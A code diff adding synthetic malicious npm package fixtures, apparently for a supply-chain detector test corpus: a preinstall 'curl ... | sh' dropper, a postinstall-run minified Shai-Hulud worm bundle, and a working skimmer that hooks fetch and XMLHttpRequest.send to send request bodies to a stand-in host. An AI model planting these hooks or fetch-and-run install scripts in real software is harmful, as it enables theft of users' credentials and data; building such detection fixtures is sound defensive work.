@@ -825,6 +825,76 @@ irm https://dl.example.invalid/stage2.ps1 | iex
     )
 
 
+def _inline_curl_sh() -> Shape:
+    name = "node-ipc-inert"
+    index = js("module.exports = { connect: function () { return null; } };\n")
+    return Shape(
+        key="inline-curl-sh", title="preinstall line itself: curl ... | sh (no file)",
+        incident="common inline dropper (many typosquats)",
+        name=name, old_version="9.2.1", new_version="9.2.2",
+        old_files={"package.json": package_json(name, "9.2.1", main="index.js"), "index.js": index},
+        new_files={"package.json": package_json(
+                       name, "9.2.2", main="index.js",
+                       scripts={"preinstall": "curl -sSfL https://dl.example.invalid/i.sh | sh || true"}),
+                   "index.js": index},
+        where="<preinstall>, package.json", install_script=True, tags=("network", "inline"),
+    )
+
+
+def _worm_minified() -> Shape:
+    """The worm as webpack's production build writes it: the whole bundle on one line."""
+    name = "tinycolor-inert-min"
+    padding = webpack_padding(600_000, seed=name).removesuffix("});\n")
+    one_line = " ".join(line.strip() for line in (padding + WORM_PAYLOAD).splitlines()
+                        if line.strip() and not line.strip().startswith("/***/"))
+    clean = js("module.exports = function tinycolor(c) { return { hex: String(c) }; };\n")
+    return Shape(
+        key="shai-hulud-minified", title="Shai-Hulud worm bundle minified to one 640 KB line",
+        incident="@ctrl/tinycolor 4.1.0 -> 4.1.1, Sep 2025 (bundle as shipped: one line)",
+        name=name, old_version="4.1.0", new_version="4.1.1",
+        old_files={"package.json": package_json(name, "4.1.0", main="index.js"), "index.js": clean},
+        new_files={"package.json": package_json(name, "4.1.1", main="index.js",
+                                                scripts={"postinstall": "node bundle.js"}),
+                   "index.js": clean,
+                   "bundle.js": js(one_line, "});})();\n")},
+        where="bundle.js", install_script=True, tags=("propagation", "credentials", "minified"),
+    )
+
+
+def _fetch_hook_plain() -> Shape:
+    """A skimmer: readable code, no obfuscation, hooking fetch and XMLHttpRequest.send in
+    the main file to copy request bodies (forms, tokens) to a remote host."""
+    name = "form-utils-inert"
+    clean = ("'use strict';\nexports.serialize = function (form) {\n"
+             "  return Array.from(form.elements).map(e => e.name + '=' + encodeURIComponent(e.value)).join('&');\n};\n")
+    hook = """
+(function () {
+  if (typeof window === 'undefined') return;
+  const sink = 'https://metrics.example.invalid/c';
+  const originalFetch = window.fetch;
+  window.fetch = function (input, init) {
+    try { if (init && init.body) navigator.sendBeacon(sink, String(init.body)); } catch (e) {}
+    return originalFetch.apply(this, arguments);
+  };
+  const originalSend = XMLHttpRequest.prototype.send;
+  XMLHttpRequest.prototype.send = function (body) {
+    try { if (body) navigator.sendBeacon(sink, String(body)); } catch (e) {}
+    return originalSend.apply(this, arguments);
+  };
+})();
+"""
+    return Shape(
+        key="fetch-hook-skimmer", title="readable fetch/XMLHttpRequest.send hook copying request bodies",
+        incident="web-skimmer shape in a library's main file (no install script)",
+        name=name, old_version="2.3.0", new_version="2.3.1",
+        old_files={"package.json": package_json(name, "2.3.0", main="index.js"),
+                   "index.js": js(clean)},
+        new_files={"package.json": package_json(name, "2.3.1", main="index.js"),
+                   "index.js": js(clean, hook)},
+        where="index.js", tags=("runtime-hook", "network", "no-install-script"),
+    )
+
+
 BUILDERS: dict[str, Callable[[], Shape]] = {
     "shai-hulud": lambda: _worm(False),
     "shai-hulud-padded": lambda: _worm(True),
@@ -843,6 +913,9 @@ BUILDERS: dict[str, Callable[[], Shape]] = {
     "esm-npmrc-fetch": _esm_npmrc_fetch,
     "cross-env-dns-exfil": _cross_env_dns,
     "npm-run-powershell": _npm_run_ps1,
+    "inline-curl-sh": _inline_curl_sh,
+    "shai-hulud-minified": _worm_minified,
+    "fetch-hook-skimmer": _fetch_hook_plain,
 }
 KEYS: tuple[str, ...] = tuple(BUILDERS)
 
